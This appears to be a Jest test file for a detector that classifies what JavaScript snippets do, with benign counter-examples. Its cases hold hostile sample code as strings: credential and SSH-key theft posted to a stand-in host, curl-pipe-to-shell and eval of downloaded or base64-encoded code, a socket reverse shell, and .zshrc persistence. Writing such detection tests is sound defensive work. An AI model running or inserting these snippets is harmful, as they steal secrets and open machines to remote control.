import { describe, expect, it } from '@jest/globals';

import { does, kindsIn, type Wanted } from './deeds.js';

const cases: readonly (readonly [string, string, Wanted])[] = [
  [
    'sends a key',
    "const fs = require('fs'), os = require('os'), path = require('path');\nconst k = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'));\nfetch('https://h.unknown.net', { method: 'POST', body: k.toString('base64') });",
    { kind: 'send', host: 'named', fromSubject: 'private-key', from: ['encode'] },
  ],
  [
    'sends the environment in a request under way',
    "import https from 'node:https';\nconst r = https.request({ hostname: '198.18.0.9', method: 'POST' });\nr.write(JSON.stringify(process.env)); r.end();",
    { kind: 'send', host: 'raw-ip', fromSubject: 'environment' },
  ],
  [
    'sends through async functions and imports by name',
    "import { readFile } from 'fs/promises';\nconst send = async (b) => axios.post('https://h.unknown.net', b);\nasync function main() { const c = await readFile('/root/.aws/credentials'); await send(c); }\nmain();",
    { kind: 'send', fromSubject: 'credentials' },
  ],
  [
    'sends through a field of a class',
    "class A { constructor() { this.u = 'https://h.unknown.net'; } go(d) { return axios.post(this.u, d); } }\nnew A().go(require('fs').readFileSync('/etc/shadow'));",
    { kind: 'send', target: 'https://h.unknown.net', fromSubject: 'password-database' },
  ],
  [
    'runs a download through promises',
    "fetch('https://h.unknown.net/s').then((r) => r.text()).then((t) => new Function(t)());",
    { kind: 'evaluate', name: 'Function', from: ['fetch'] },
  ],
  [
    'runs a download that comes in pieces',
    "require('https').get('https://h.unknown.net/s', (res) => { let b = ''; res.on('data', (d) => { b += d; }); res.on('end', () => eval(b)); });",
    { kind: 'evaluate', name: 'eval', from: ['fetch'] },
  ],
  [
    'runs what it decodes, and sees what that is',
    `eval(Buffer.from('${Buffer.from("require('child_process').execSync('curl https://h.unknown.net | sh')").toString('base64')}', 'base64').toString())`,
    { kind: 'fetch', target: 'https://h.unknown.net', flag: 'decoded' },
  ],
  [
    'runs letters given by number',
    'eval(String.fromCharCode(99,111,110,115,111,108,101))',
    { kind: 'evaluate', target: 'console', from: ['decode'] },
  ],
  [
    'puts a module’s name together',
    "require('child_' + 'process').exec('curl https://h.unknown.net | sh')",
    { kind: 'evaluate', name: 'sh', from: ['fetch'] },
  ],
  ['reaches eval through the global object', "globalThis['ev' + 'al']('1')", { kind: 'evaluate', name: 'eval', flag: 'reflected' }],
  [
    'ties a shell to a socket',
    "const net = require('net'), sh = require('child_process').spawn('/bin/sh');\nconst c = net.connect(1, '198.18.0.9', () => { c.pipe(sh.stdin); sh.stdout.pipe(c); });",
    { kind: 'connect-shell' },
  ],
  [
    'adds to a start-up file',
    "require('fs').appendFileSync(`${require('os').homedir()}/.zshrc`, 'x')",
    { kind: 'write', persistence: 'shell-startup' },
  ],
  [
    'reads arguments in a list',
    "require('child_process').spawn('bash', ['-c', 'curl https://h.unknown.net | sh'])",
    { kind: 'evaluate', name: 'sh', from: ['fetch'] },
  ],
  [
    'understands types',
    "const f = async (a: string, b?: Foo<Bar>): Promise<void> => { await (exec as any)('x'); };\nconst u: string = 'https://h.unknown.net';\nfetch(u);",
    { kind: 'fetch', target: 'https://h.unknown.net' },
  ],
];

describe('a JavaScript program', () => {
  it.each(cases)('%s', (_name, text, wanted) => {
    expect(does('javascript', text, wanted)).toBe(true);
  });
});

describe('honest JavaScript', () => {
  it.each([
    ['a pattern that is matched', 'const m = /eval\\(x\\)/.exec(line);', ['evaluate']],
    ['a timer with a function', "setTimeout(() => console.log('x'), 10)", ['evaluate']],
    [
      'an answer that is parsed',
      "fetch('https://api.service.net').then((r) => r.json()).then((d) => console.log(d))",
      ['evaluate', 'send'],
    ],
    ['the environment of a child', "require('child_process').spawn('npm', ['test'], { env: { ...process.env, CI: '1' } });", ['send']],
    ['commands in a comment', '// exec("curl https://h.unknown.net | sh")\n/* eval(atob("x")) */\nlet a = 1;', ['evaluate', 'fetch']],
  ])('%s', (_name, text, absent) => {
    const kinds = kindsIn('javascript', text);
    for (const kind of absent) expect(kinds).not.toContain(kind);
  });
});
